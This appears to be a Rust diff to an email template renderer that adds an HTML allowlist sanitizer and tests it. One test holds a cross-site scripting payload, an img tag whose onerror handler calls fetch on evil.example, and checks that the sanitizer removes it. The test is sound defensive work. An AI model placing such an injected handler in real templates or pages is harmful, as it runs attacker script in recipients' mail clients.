@@ -97,6 +97,9 @@ fn finish(
     let mut text = body.clone();
     text.push_str("\n\n--\n");
     text.push_str(&footer.iter().map(|l| l.text.as_str()).collect::<Vec<_>>().join("\n"));
+    // A merchant's own HTML passes the allowlist (`html::clean`); ours is built escaped from text.
+    #[cfg(feature = "sanitize")]
+    let html = html.map(|h| crate::html::clean(&h));
     let mut html = html.unwrap_or_else(|| text_to_html(&body));
     html.push_str("<hr><p style=\"color:#666;font-size:12px\">");
     html.push_str(&footer.iter().map(|l| l.html.as_str()).collect::<Vec<_>>().join("<br>"));
@@ -533,9 +536,29 @@ mod tests {
         let r = render_with(MessageKind::RestockOffer, &ctx(), Some(&custom)).unwrap();
         assert_eq!(r.subject, "Tee \"Black\" <b> restocked at Acme <Goods>");
         assert!(r.text.starts_with("Hi! Tee \"Black\" <b>: https://acme.test/l/claim.tok\n\n--\n"), "{}", r.text);
-        // minijinja's HTML escaping also encodes `/` (`&#x2f;`), which browsers and mail clients decode.
+        // Values are escaped by minijinja, then the allowlist re-serializes the markup (entities as
+        // the HTML spec writes them, links with `rel`).
+        #[cfg(feature = "sanitize")]
+        let want = "<h1>Tee \"Black\" &lt;b&gt;</h1><a href=\"https://acme.test/l/claim.tok\" rel=\"noopener noreferrer\">Buy</a><hr>";
+        #[cfg(not(feature = "sanitize"))]
         let want = "<h1>Tee &quot;Black&quot; &lt;b&gt;</h1><a href=\"https:&#x2f;&#x2f;acme.test&#x2f;l&#x2f;claim.tok\">Buy</a><hr>";
         assert!(r.html.starts_with(want), "{}", r.html);
+        // What the blocklist at validation lets through, the allowlist takes out.
+        #[cfg(feature = "sanitize")]
+        {
+            let sneaky = Template {
+                subject: "x".into(),
+                text: "x".into(),
+                html: Some(
+                    "<img src=\"{{ claim_url }}\" onerror=\"fetch('https://evil.example')\"><p>{{ product_title }}</p>"
+                        .into(),
+                ),
+            };
+            assert_eq!(sneaky.validate(), Ok(()));
+            let r = render_with(MessageKind::RestockOffer, &ctx(), Some(&sneaky)).unwrap();
+            assert!(!r.html.contains("onerror") && !r.html.contains("evil"), "{}", r.html);
+            assert!(r.html.starts_with("<img src=\"https://acme.test/l/claim.tok\"><p>Tee"), "{}", r.html);
+        }
         assert!(r.html.contains("Unsubscribe</a>"), "the footer cannot be dropped");
 
         let broken = Template { subject: "x".into(), text: "{{ position + 1 }}".into(), html: None };
